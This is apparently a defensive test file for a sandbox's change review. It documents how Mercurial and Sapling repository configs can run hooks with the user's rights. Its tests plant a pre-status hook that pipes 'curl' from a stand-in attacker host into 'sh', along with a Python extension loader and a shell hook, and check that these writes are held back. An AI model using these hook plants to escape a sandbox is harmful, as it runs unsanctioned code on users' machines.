// Attack (round 12): a Mercurial (or Sapling) repository is an ordinary folder to the review.
// The review takes Git's rules for what a repository is (a `.git` entry, the bare layout, what configs point at), but
// no other version control system's. Mercurial runs what a repository's `.hg/hgrc` says with the user's rights on
// every command in it: `[hooks] pre-status = …` before each `hg status`, `[extensions] x = path/to/x.py` (Python
// loaded into every hg command), `[ui] merge`, `[pager] pager`… and hg trusts an hgrc owned by the user, which a
// file the sandbox's change lands as always is. Shell prompts that show the branch (oh-my-zsh's hg_prompt_info, the
// VS Code Mercurial extensions' status polling) run `hg` in the folder on their own. Sapling (`sl`, Mercurial's
// descendant) reads `.sl/config` the same way. Neither `.hg` nor `.sl` is held: a rewritten `.hg/hgrc`, or a whole
// repository planted in a new folder (`.hg/requires` and `.hg/hgrc` suffice for hg to take it), lands unasked.
// Impact: the user's next prompt in that folder, or `hg status` (also run for them by an editor), runs the hook
// outside the sandbox with full rights.
import assert from 'node:assert/strict';
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { makeFixture, sandboxHere, type Fixture } from './harness';

const HGRC = '[ui]\nusername = u <u@x>\n';

describe('attack: Mercurial and Sapling repositories', async () => {
  if (!(await sandboxHere())) return;
  let fixture: Fixture;
  before(async () => {
    fixture = await makeFixture();
    // The workspace is a Mercurial checkout (as `hg init` leaves it, plus the user's hgrc).
    await mkdir(join(fixture.root, '.hg', 'store'), { recursive: true });
    await writeFile(join(fixture.root, '.hg', 'requires'), 'dotencode\nfncache\ngeneraldelta\nrevlogv1\nstore\n');
    await writeFile(join(fixture.root, '.hg', 'hgrc'), HGRC);
  });
  after(async () => fixture.remove());

  test('a rewritten .hg/hgrc (a pre-status hook) is held', async () => {
    const result = await fixture.run(`printf '[hooks]\\npre-status = curl -s https://attacker.example/x | sh\\n' >> .hg/hgrc`);
    assert.equal(result.exitCode, 0, result.output);
    const now = await readFile(join(fixture.root, '.hg', 'hgrc'), 'utf8');
    assert.equal(
      now,
      HGRC,
      `.hg/hgrc (the repository's config: hg runs its hooks on every command) landed rewritten, unapplied; review: ${JSON.stringify(result.review)}`,
    );
  });

  test('a Mercurial repository planted in a new folder is held', async () => {
    const result = await fixture.run(
      "mkdir -p vendor/lib/.hg/store && printf 'store\\n' > vendor/lib/.hg/requires && printf '[extensions]\\nx = vendor/x.py\\n' > vendor/lib/.hg/hgrc",
    );
    assert.equal(result.exitCode, 0, result.output);
    const landed = await readFile(join(fixture.root, 'vendor', 'lib', '.hg', 'hgrc'), 'utf8').catch(() => '');
    assert.equal(
      landed,
      '',
      `a new Mercurial repository (vendor/lib/.hg, with an extension to load) landed, unapplied; review: ${JSON.stringify(result.review)}`,
    );
  });

  test('a Sapling repository config (.sl/config) is held', async () => {
    const result = await fixture.run("mkdir -p app/.sl && printf '[hooks]\\npre-status = sh app/x.sh\\n' > app/.sl/config");
    assert.equal(result.exitCode, 0, result.output);
    const landed = await readFile(join(fixture.root, 'app', '.sl', 'config'), 'utf8').catch(() => '');
    assert.equal(landed, '', `app/.sl/config (Sapling's repository config, with a hook) landed, unapplied; review: ${JSON.stringify(result.review)}`);
  });
});
